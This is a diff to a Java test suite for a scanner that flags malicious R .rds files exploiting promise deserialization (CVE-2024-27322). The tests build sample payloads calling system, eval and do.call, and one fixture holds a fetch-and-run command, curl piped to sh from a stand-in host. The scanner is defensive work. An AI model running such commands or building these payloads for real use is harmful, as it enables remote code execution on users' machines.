@@ -35,6 +35,10 @@ class RdsScanTest {
         return joined(ints(0x40009, bytes.length), bytes);
     }
 
+    private static byte[] ascii(String text) {
+        return text.getBytes(StandardCharsets.US_ASCII);
+    }
+
     private static byte[] symbol(String name) {
         return joined(ints(1), text(name));
     }
@@ -73,7 +77,58 @@ class RdsScanTest {
         FileReport report = Scans.scan("m.rds", rds(promise(call("system"))));
         assertThat(report.worst()).contains(Severity.CRITICAL);
         assertThat(report.findings().getFirst().message()).contains("CVE-2024-27322");
-        assertThat(Scans.verdict(rds(promise(call("sum"))))).isEqualTo(Verdict.SUSPICIOUS);
+        assertThat(Scans.verdict(rds(promise(call("sum"))))).isEqualTo(Verdict.CLEAN);
+    }
+
+    @Test
+    void promisesThatHideWhatTheyRunAreSuspicious() {
+        for (String name : new String[] {"eval", "do.call", "get", "readRDS", "asNamespace"}) {
+            assertThat(Scans.verdict(rds(promise(call(name))))).isEqualTo(Verdict.SUSPICIOUS);
+        }
+        byte[] named = joined(ints(6), symbol("lapply"), ints(2), symbol("system"), ints(NIL));
+        assertThat(Scans.verdict(rds(promise(named)))).isEqualTo(Verdict.MALICIOUS);
+        byte[] inText = joined(ints(6), symbol("sapply"), ints(2), texts("system"), ints(NIL));
+        assertThat(Scans.verdict(rds(promise(inText)))).isEqualTo(Verdict.SUSPICIOUS);
+        byte[] made = joined(ints(6), symbol("Map"), ints(2), call("paste0"), ints(NIL));
+        assertThat(Scans.verdict(rds(promise(made)))).isEqualTo(Verdict.SUSPICIOUS);
+        byte[] builtin = joined(ints(6), ints(8, 4), ascii("eval"), ints(2), texts("a"), ints(NIL));
+        assertThat(Scans.verdict(rds(promise(builtin)))).isEqualTo(Verdict.SUSPICIOUS);
+    }
+
+    @Test
+    void aPromiseThatCallsAFunctionOfTheFileIsJudgedByIt() {
+        assertThat(Scans.verdict(rds(functionAndPromise("mean")))).isEqualTo(Verdict.CLEAN);
+        assertThat(Scans.verdict(rds(functionAndPromise("do.call")))).isEqualTo(Verdict.SUSPICIOUS);
+    }
+
+    /// A list of the function `f`, which calls another, and of a promise to call `f`.
+    private static byte[] functionAndPromise(String called) {
+        return joined(
+                ints(2 | 0x400),
+                symbol("f"),
+                function(call(called)),
+                ints(2 | 0x400),
+                symbol("x"),
+                promise(call("f")),
+                ints(NIL));
+    }
+
+    @Test
+    void codeOfAPromiseThatHasItsValueNeverRuns() {
+        byte[] done = joined(ints(5), ints(10, 1, 1), call("system"));
+        assertThat(Scans.verdict(rds(done))).isEqualTo(Verdict.CLEAN);
+        byte[] open = joined(ints(5 | 0x400), ints(GLOBAL), ints(252), call("system"));
+        assertThat(Scans.verdict(rds(open))).isEqualTo(Verdict.MALICIOUS);
+    }
+
+    @Test
+    void textsAreDataUntilTheFileWorksOutTexts() {
+        byte[] program = texts("system('curl -s http://a.example/x | sh')");
+        assertThat(Scans.verdict(rds(program))).isEqualTo(Verdict.CLEAN);
+        byte[] both = joined(ints(19, 2), program, function(call("parse")));
+        assertThat(Scans.verdict(rds(both))).isEqualTo(Verdict.MALICIOUS);
+        byte[] inside = joined(ints(6), symbol("f"), ints(2), program, ints(NIL));
+        assertThat(Scans.verdict(rds(function(inside)))).isEqualTo(Verdict.MALICIOUS);
     }
 
     @Test
